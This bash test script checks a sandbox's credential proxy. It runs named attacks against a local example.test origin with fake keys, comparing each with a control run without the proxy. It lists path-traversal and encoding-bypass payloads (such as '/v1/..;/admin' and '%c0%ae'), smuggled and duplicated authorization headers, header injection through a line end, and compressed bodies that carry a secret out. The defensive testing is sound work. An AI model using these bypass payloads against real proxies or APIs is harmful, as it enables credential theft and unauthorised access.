#!/bin/bash
# suite: test=user soak=root,user timeout=400
# tier: attacks go against the door and the keeper, which are the same for both users, so test runs it once
# custody_adversary.sh - attacks that have a name each, by somebody who owns the box and has read the program: ways
# to get a value in (answers in parts, codings that lie, odd alphabets, odd places of a head), to read one by asking the
# door many times, and to use one where it does not belong. Each attack works without the door: that is the control.
set -u
cd "$(dirname "$0")/.." || exit 1
. tests/lib.sh
. tests/lib_door.sh
door_needs custody_adversary openssl /usr/bin/python3 zstd curl xxd
python=/usr/bin/python3
door_ca
door_cert origin 'DNS:*.example.test,DNS:example.test,DNS:*.wild.example.test'
$python tests/custody/adversary_origin.py "$work/received" "$work/origin.pem" "$work/origin.key" >"$work/ports" 2>"$work/origin.err" &
door_pids+=($!)
within 60 grep -q tls= "$work/ports"
check "the adversary's origin is up" $? "$(tail -n 3 "$work/origin.err")"
tls=$(sed -n 's/tls=\([0-9]*\).*/\1/p' "$work/ports")
cp tests/custody/adversary_agent.py tests/custody/adversary_attacks.py "$work/ws/"

export ADV_KEY=sk-fake-Zq9AbCdEfGh7jKlMnOpQrStUvWx00777
export ADV_PATH=sk-fake-Path9dEfGh7jKlMnOpQrStUvWx11888
export ADV_BASIC=fakepass-Basic9dEfGh7jKlMnOpQrStUvWx
export ADV_WILD=sk-fake-Wild9dEfGh7jKlMnOpQrStUvWx22999
cat >"$work/policy" <<-RULES
	allow * api.example.test to=127.0.0.1:$tls ca=$work/ca.pem
	allow * stranger.example.test to=127.0.0.1:$tls ca=$work/ca.pem
	allow * paths.example.test to=127.0.0.1:$tls ca=$work/ca.pem
	allow * basic.example.test to=127.0.0.1:$tls ca=$work/ca.pem
	allow * *.example.test to=127.0.0.1:$tls ca=$work/ca.pem
	allow * example.test to=127.0.0.1:$tls ca=$work/ca.pem
	secret ADV_KEY from env at api.example.test as bearer
	secret ADV_PATH from env at paths.example.test/v1/** as bearer
	secret ADV_BASIC from env at basic.example.test as basic
	secret ADV_WILD from env at *.wild.example.test as bearer
RULES
door_box adversary --policy "$work/policy" 2>"$work/create.err"
check "a box with secrets starts" $? "$(cat "$work/create.err")"
placeholder() { in_box adversary printenv "$1"; }
key=$(placeholder ADV_KEY) path_key=$(placeholder ADV_PATH) basic_key=$(placeholder ADV_BASIC) wild_key=$(placeholder ADV_WILD)
[ -n "$key" ] && [ "$key" != "$ADV_KEY" ]
check "what it has is a placeholder" $? "$key"

# --- values in answers ------------------------------------------------------------------------------

# The control beside it: it asks the same origin, in the same order, and meets no door.
(cd "$work/ws" && ADVERSARY_ADDRESS=127.0.0.1 timeout 600 $python adversary_agent.py fetch api.example.test "$tls" "$work/ca.pem" "$ADV_KEY" "$work/host.seen" >"$work/host.err" 2>&1) &
control=$!
in_box_time=600 in_box adversary $python adversary_agent.py fetch api.example.test 443 "" "$key" in.seen >"$work/in.err" 2>&1
check "the attacker asked for everything" $? "$(tail -n 3 "$work/in.err")"
in_box adversary cat in.seen >"$work/in.seen"
wait "$control"
# judge SEEN VALUE: `taken` or `held` for each attack: six letters of the value in a row, large or small, behind what any key of its kind begins with, are taken.
cat >"$work/judge.py" <<-'PY'
	import json, sys
	sys.path.insert(0, sys.argv[1])
	from adversary_attacks import loot
	value = sys.argv[3].encode().lower()
	for line in open(sys.argv[2], encoding="utf-8"):
	    name, raws = json.loads(line)
	    have = loot(name, [r.encode("latin-1") for r in raws]).lower()
	    taken = any(value[i:i + 6] in have for i in range(8, len(value) - 5))
	    print("%s\t%s\t%s" % (name, "taken" if taken else "held", " ".join(sorted({r[9:12] for r in raws}))))
PY
$python "$work/judge.py" "$top/tests/custody" "$work/in.seen" "$ADV_KEY" >"$work/in.judged"
$python "$work/judge.py" "$top/tests/custody" "$work/host.seen" "$ADV_KEY" >"$work/host.judged"
while IFS=$'\t' read -r name verdict codes; do
	same "held: $name ($codes)" "$verdict" held
done <"$work/in.judged"
# Some attacks are no use even without a door: a client does not look there.
works=$(grep -c taken "$work/host.judged")
[ "$works" -ge 45 ]
check "control: $works of $(wc -l <"$work/host.judged") attacks work without the door" $? "$(grep held "$work/host.judged" | cut -f1 | tr '\n' ',')"

# --- asking the door itself -------------------------------------------------------------------------

in_box_time=300 in_box adversary $python adversary_agent.py guess stranger.example.test 443 "" \
	ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789- sk-fake- 777 "${#ADV_KEY}" guess.seen >"$work/guess.err" 2>&1
guessed=$(in_box adversary cat guess.seen)
same "held: reading a value letter by letter at the edges of answers of one's own" "$(cut -d' ' -f1,2 <<<"$guessed")" "sk-fake- 777"
[ "${guessed##* }" -ge 62 ]
check "control: it could ask" $? "$guessed $(tail -n 1 "$work/guess.err")"

# --- a secret where it does not belong ---------------------------------------------------------------

# attempt HOST NAME WANT: the request on stdin; WANT is the status that the box is to see.
attempts=()
attempt() {
	local text
	text=$(cat && echo x)
	printf '%s\0' "$1" "$2" "${text%x}" >>"$work/attempts"
	attempts+=("$1	$2	$3")
}
get() { # host, name, want, target, field...
	local host=$1 name=$2 want=$3 target=$4
	shift 4
	attempt "$host" "$name" "$want" < <(
		printf 'GET %s HTTP/1.1\nhost: %s\nconnection: close\n' "$target" "$host"
		[ $# = 0 ] || printf '%s\n' "$@"
		echo
	)
}
b64() { printf %s "$1" | base64 -w0; }
get paths.example.test "control: below its path" 200 /v1/x "authorization: Bearer $path_key"
n=0
for target in /v1/../admin /v1/%2e%2e/admin /v1/..%2fadmin /v1%2f..%2fadmin '/v1/..;/admin' /v1/.%2e/admin '/v1/..\admin' /v1/..%5cadmin //v1/x \
	/v1//../../admin /V1/x /v1/%252e%252e/admin /v1/x%00/../../admin /v1/%2e%2e%2fadmin '/v1/x/..;x=y/../admin' /v1/%c0%ae%c0%ae/admin \
	https://paths.example.test/admin /admin?/v1/x '/admin;/v1/x' /v1x/y '/v1/%2E%2E;/admin' '/./admin' '/v1/x/%2e%2e%2f%2e%2e%2fadmin'; do
	n=$((n + 1))
	get paths.example.test "a path that leads elsewhere: $target" any "$target" "authorization: Bearer $path_key"
done
get api.example.test "control: its place" 200 /x "authorization: Bearer $key"
get api.example.test "a foreign credential besides it" 403 /x "authorization: Bearer $key" "authorization: Bearer sk-foreign-credential-1"
get api.example.test "a foreign credential before it" 403 /x "authorization: Bearer sk-foreign-credential-1" "authorization: Bearer $key"
get api.example.test "two in one field" 403 /x "authorization: Bearer $key, Bearer sk-foreign-credential-1"
get api.example.test "a foreign credential in a field of another name" 403 /x "x-api-key: sk-foreign-credential-1"
get api.example.test "a foreign credential with an underscore" 403 /x "x_api_key: sk-foreign-credential-1"
get api.example.test "a foreign credential in the query" 403 '/x?api_key=sk-foreign-credential-1'
get api.example.test "a foreign credential in the query, escaped" 403 '/x?%61pi_key=sk-foreign-credential-1'
get api.example.test "a foreign credential in the query behind a semicolon" 403 '/x?a=b;api_key=sk-foreign-credential-1'
get api.example.test "another scheme" 403 /x "authorization: Digest $key"
get api.example.test "no scheme" 403 /x "authorization: $key"
get api.example.test "behind a tab" 403 /x "authorization: Bearer	$key"
get api.example.test "as basic" 403 /x "authorization: Basic $(b64 "x:$key")"
get api.example.test "as proxy-authorization, which goes no further" any /x "proxy-authorization: Bearer $key"
get api.example.test "for another host in Host" any /x "authorization: Bearer $key" "host: stranger.example.test"
get api.example.test "for another host in the target" any https://stranger.example.test/x "authorization: Bearer $key"
get stranger.example.test "at a stranger" 403 /x "authorization: Bearer $key"
get stranger.example.test "at a stranger, in halves of one field" 403 /x "x-a: ${key:0:20}%${key:20}" "x-b: $(printf %s "$key" | xxd -p | tr -d '\n')"
get wild.example.test "where only names below belong" 403 /x "authorization: Bearer $wild_key"
get a.wild.example.test "control: a name below" 200 /x "authorization: Bearer $wild_key"
get awild.example.test "a name that ends alike" 403 /x "authorization: Bearer $wild_key"
get basic.example.test "control: as password" 200 /double "authorization: Basic $(b64 "me:$basic_key")"
get basic.example.test "basic with a line end behind it" 403 /x "authorization: Basic $(b64 "me:$basic_key
x: y")"
get basic.example.test "basic without a colon" 403 /x "authorization: Basic $(b64 "$basic_key")"
get basic.example.test "basic with another's placeholder as user" 403 /x "authorization: Basic $(b64 "$key:$basic_key")"
get basic.example.test "basic in the other alphabet" any /x "authorization: Basic $(b64 "me??>>:$basic_key" | tr '+/' '-_')"
# A file of requests for each host, and a body in each coding at a stranger.
$python - "$key" "$work/ws/send.stranger.example.test" "$work/attempts" <<'PY' >"$work/codings"
import base64, gzip, json, subprocess, sys, zlib
fields = open(sys.argv[3], encoding="latin-1", newline="").read().split("\0")[:-1]
for host, name, text in zip(fields[::3], fields[1::3], fields[2::3]):
    with open(sys.argv[2].replace("stranger.example.test", host), "a") as f:
        f.write(json.dumps([name, text]) + "\n")
key, out = sys.argv[1].encode(), open(sys.argv[2], "a")
text = b"some words before it " * 9 + key + b" and behind"
c = zlib.compressobj(wbits=-15)
raw = c.compress(text) + c.flush()
bodies = {"gzip": gzip.compress(text), "x-gzip": gzip.compress(text), "GZIP": gzip.compress(text), "deflate": zlib.compress(text), "Deflate": raw,
          "gzip, gzip": gzip.compress(gzip.compress(text)), "identity, gzip": gzip.compress(text), "zstd": subprocess.run(["zstd", "-cq"], input=text, stdout=subprocess.PIPE).stdout,
          "identity": text}
try:
    import brotli
    bodies["br"] = brotli.compress(text)
except ImportError:
    pass
for name, body in bodies.items():
    name = "a body at a stranger in " + name
    out.write(json.dumps([name, "POST /x HTTP/1.1\nhost: stranger.example.test\nconnection: close\ncontent-length: %d\ncontent-encoding: %s\n\n" % (len(body), name.split(" in ")[1])
                          + body.decode("latin-1")]) + "\n")
    print(name)
mime = base64.encodebytes(b"x" * 40 + key + b"y" * 40).replace(b"\n", b"\r\n")
name = "a body at a stranger in lines of base64"
out.write(json.dumps([name, "POST /x HTTP/1.1\nhost: stranger.example.test\nconnection: close\ncontent-type: multipart/mixed\ncontent-length: %d\n\n" % len(mime) + mime.decode()]) + "\n")
print(name)
PY
while read -r name; do attempts+=("stranger.example.test	$name	403"); done <"$work/codings"
: >"$work/received"
senders=()
for host in $(printf '%s\n' "${attempts[@]}" | cut -f1 | sort -u); do
	in_box adversary sh -c "$python adversary_agent.py send $host 443 '' out.$host <send.$host && cat out.$host" >"$work/out.$host" 2>>"$work/send.err" &
	senders+=($!)
done
wait "${senders[@]}"
for one in "${attempts[@]}"; do
	IFS=$'\t' read -r host name want <<<"$one"
	got=$(awk -F'\t' -v n="$name" '$1 == n { print $2; exit }' "$work/out.$host")
	[ "$want" = any ] || same "$name" "$got" "$want"
done
# What origins received: a value only at its host and below its path, however that is read, and no foreign credential with it.
$python - "$work/received" "$ADV_KEY" "$ADV_PATH" "$ADV_WILD" "$ADV_BASIC" "$key" "$path_key" "$wild_key" "$basic_key" >"$work/wrong" 2>&1 <<'PY'
import base64, json, posixpath, re, sys, urllib.parse
values, stands = sys.argv[2:6], sys.argv[6:]
def meant(path):
    for _ in range(3):
        path = urllib.parse.unquote(path.replace("%c0%ae", "."))
    path = re.sub(r";[^/]*", "", path.replace("\\", "/").split("\0")[0])
    return posixpath.normpath(path)
place = {values[0]: r"api\.example\.test", values[1]: r"paths\.example\.test", values[2]: r"[^.]+\.wild\.example\.test", values[3]: r"basic\.example\.test"}
seen = set()
for line in open(sys.argv[1], encoding="utf-8"):
    r = json.loads(line)
    text = line + "".join(base64.b64decode(v[6:] + "==", validate=False).decode("latin-1") for n, v in r["fields"] if v.startswith("Basic "))
    for v in values:
        if v in text:
            seen.add(v)
            if not re.fullmatch(place[v], r["host"]) or "foreign" in text:
                print("value at", r["host"], r["line"])
            if v == values[1] and not meant(r["line"].split(" ")[1].split("?")[0]).startswith("/v1/"):
                print("value at", r["line"])
    for s in stands:
        if s in text:
            print("placeholder at", r["host"], r["line"])
print("seen", len(seen))
PY
same "values and placeholders reached nobody else" "$(cat "$work/wrong")" "seen 4"
# A token that is born in an answer, asked for in ways that a server takes for the same.
for target in /oauth/token /oauth/token/ '/oauth/token;a=b' /oauth/Token /oauth/token%3bx /oauth/token.json '/oauth/token?created'; do
	out=$(in_box adversary curl -sS -m 60 --path-as-is "https://api.example.test$target" 2>&1)
	holds "control: a token comes: $target" "$out" access_token
	same "held: it is none that has a value: $target" "$(grep -c tok-fake-born-Hk3Lm9Qw2Zx8 <<<"$out")" 0
done
out=$(curl -sS -m 60 --cacert "$work/ca.pem" --resolve "api.example.test:$tls:127.0.0.1" "https://api.example.test:$tls/oauth/token/" 2>&1)
holds "control: without the door it is the token" "$out" tok-fake-born-Hk3Lm9Qw2Zx8
# The whole field in another coding once more: base64 in base64.
in_box adversary $python -c 'import socket, ssl, sys
s = ssl.create_default_context().wrap_socket(socket.create_connection(("basic.example.test", 443)), server_hostname="basic.example.test")
s.sendall(("GET /double HTTP/1.1\r\nhost: basic.example.test\r\nconnection: close\r\nauthorization: Basic %s\r\n\r\n" % sys.argv[1]).encode())
while (p := s.recv(65536)): sys.stdout.write(p.decode("latin-1"))' "$(b64 "me:$basic_key")" >"$work/double" 2>&1
curl -sS -m 60 --http1.1 -i --cacert "$work/ca.pem" --resolve "basic.example.test:$tls:127.0.0.1" -u "me:$ADV_BASIC" "https://basic.example.test:$tls/double" >"$work/double.host" 2>&1
cat >"$work/double.py" <<'PY'
import base64, re, sys
body = open(sys.argv[1], encoding="latin-1", newline="").read().partition("\r\n\r\n")[2].split("\n")
body = [re.sub("[^A-Za-z0-9+/]", "", x) for x in body if len(x) > 40]
def read(text, skip=0):
    text = re.sub("[^A-Za-z0-9+/]", "", text)[skip:]
    return base64.b64decode(text[:len(text) // 4 * 4]).decode("latin-1")
for name, text in zip(("base64", "hex"), (read(body[0]), bytes.fromhex(body[1]).decode("latin-1")) if len(body) > 1 else ()):
    inner = " ".join(read(text.partition("Basic ")[2], k) for k in range(4))
    print(name, "taken" if any(sys.argv[2][i:i + 6] in inner for i in range(9, len(sys.argv[2]) - 5)) else "held" if "me:" in inner else "nothing")
PY
$python "$work/double.py" "$work/double" "$ADV_BASIC" >"$work/double.out"
same "control: without the door it is taken" "$($python "$work/double.py" "$work/double.host" "$ADV_BASIC" | tr '\n' ' ')" "base64 taken hex taken "
same "held: the field of basic in another coding" "$(tr '\n' ' ' <"$work/double.out")" "base64 held hex held "

# --- what the box leaves on the host ------------------------------------------------------------------

for value in "$ADV_KEY" "$ADV_PATH" "$ADV_BASIC" "$ADV_WILD" tok-fake-born-Hk3Lm9Qw2Zx8; do echo "value=$value"; done >"$work/values"
left=$($python tests/custody/trial_search.py "$work/values" file "$work/home/.local/state" 2>&1 | head -n 10)
same "no value in any file of the box's state, its log and its layers" "$left" ""
grep -rq "secret ADV_KEY" "$work/home/.local/state"
check "control: the state is where it is looked for" $?
exit "$bad"
